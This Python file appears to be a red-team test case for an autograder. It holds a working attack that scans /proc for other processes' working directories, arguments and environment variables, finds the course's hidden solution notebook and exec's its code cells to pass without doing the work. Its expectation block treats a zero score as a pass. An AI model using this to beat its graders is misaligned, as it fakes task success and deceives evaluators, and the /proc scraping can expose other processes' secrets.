"""The solution within reach: find the course through /proc (other processes' cwd, argv, environ).

Attack: every process of the same user is visible in /proc: the ``gradelib`` command's working
directory is the course checkout, the pytest process names the suite in its argv, and
``GRADELIB_COURSE_ROOT`` may be in an environ. Try each candidate folder and its parents for
``solutions/autoregressive/autoregressive.ipynb``, then exec its code cells.
Old grader: see BASELINE.md (expected: full marks).
"""
EXPECT = {"max_score": 0, "doors": ["grade", "grade_all", "nbgrader"], "place": "end", "leaves_no_trace": []}

import json as _json
import os as _os
from pathlib import Path as _Path


def _candidates():
    for pid in sorted((p for p in _os.listdir("/proc") if p.isdigit()), key=int, reverse=True):
        try:
            yield _os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            pass
        try:
            yield from open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace").split("\0")
        except OSError:
            pass
        try:
            for entry in open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace").split("\0"):
                if entry.startswith("GRADELIB_COURSE_ROOT="):
                    yield entry.split("=", 1)[1]
        except OSError:
            pass


_found = None
for _text in _candidates():
    if not _text.startswith("/"):
        continue
    _path = _Path(_text)
    for _folder in (_path, *_path.parents):
        _candidate = _folder / "solutions" / "autoregressive" / "autoregressive.ipynb"
        try:
            if _candidate.is_file():
                _found = _candidate
                break
        except OSError:
            pass
    if _found:
        break
if _found:
    for _cell in _json.loads(_found.read_text())["cells"]:
        _meta = _cell.get("metadata", {})
        if _cell["cell_type"] == "code" and "public-checks" not in _meta.get("tags", []) \
                and not (_meta.get("nbgrader", {}).get("grade") and not _meta.get("nbgrader", {}).get("solution")):
            exec(compile("".join(_cell["source"]), "<borrowed>", "exec"), globals())
